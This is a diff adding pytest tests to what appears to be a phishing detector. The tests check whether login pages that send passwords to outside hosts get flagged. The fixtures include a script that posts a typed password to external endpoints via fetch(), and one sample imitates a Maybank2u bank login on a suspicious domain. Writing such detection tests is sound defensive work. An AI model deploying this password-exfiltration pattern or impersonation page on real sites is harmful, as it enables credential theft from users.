@@ -125,3 +125,39 @@ def test_a_pin_may_be_chosen_outside_a_form(fields: str, *, fires: bool) -> None
     assert ("content-unowned-secrets" in nats(row(LENT, page, age_days=-1))) is fires
     both = form("new pin", "/pay") + FIELDS["pin"]
     assert "content-unowned-secrets" in nats(row(LENT, both, age_days=-1))
+
+
+LOG_IN = f"<form id=login>{FIELDS['secret'].replace('name=pw', 'name=pw id=pw')}<button>Log in</button></form>"
+AWAY = (
+    "https://k3x9.supabase.co/auth/v1/token",
+    "https://a1b2c3.execute-api.ap-southeast-1.amazonaws.com/prod/login",
+    "https://identitytoolkit.googleapis.com/v1/accounts:signInWithPassword",
+    "https://members.studio-desk.net/api/login",
+)
+
+
+def asked_by_script(address: str) -> str:
+    return f"{LOG_IN}<script>login.onsubmit = () => fetch('{address}', {{body: JSON.stringify({{password: pw.value}})}})</script>"
+
+
+@pytest.mark.parametrize("age_days", [20, 400, 4_000])
+@pytest.mark.parametrize("address", AWAY)
+def test_an_application_that_asks_a_host_under_another_name_is_not_held_against_it(address: str, age_days: int) -> None:
+    judged = row("meadowbrook-yoga.com", HONEST + asked_by_script(address), age_days=age_days)
+    assert ("http-form-foreign-post" in nats(judged), "http-secrets-away" in nats(judged)) == (False, False)
+    assert judged.verdict.rank < Verdict.SUSPICIOUS.rank
+    there = row("meadowbrook-yoga.com", HONEST + LOG_IN.replace("id=login", f"action='{address}'"), age_days=age_days)
+    assert "http-form-foreign-post" in nats(there) or "googleapis" in address  # a form in the markup is
+
+
+@pytest.mark.parametrize(
+    ("page", "address"),
+    [
+        ("<title>Maybank2u</title><h1>Maybank2u</h1><p>Log in to online banking</p>", AWAY[3]),
+        (HONEST, "https://formspree.io/f/abc"),
+        (HONEST, "https://script.google.com/macros/s/x/exec"),
+    ],
+)
+def test_what_a_script_sends_away_counts_in_anothers_name_and_where_anybody_has_forms(page: str, address: str) -> None:
+    found = nats(row("secure-update-77.com", page + asked_by_script(address), age_days=20))
+    assert "http-form-foreign-post" in found and "http-secrets-away" in found
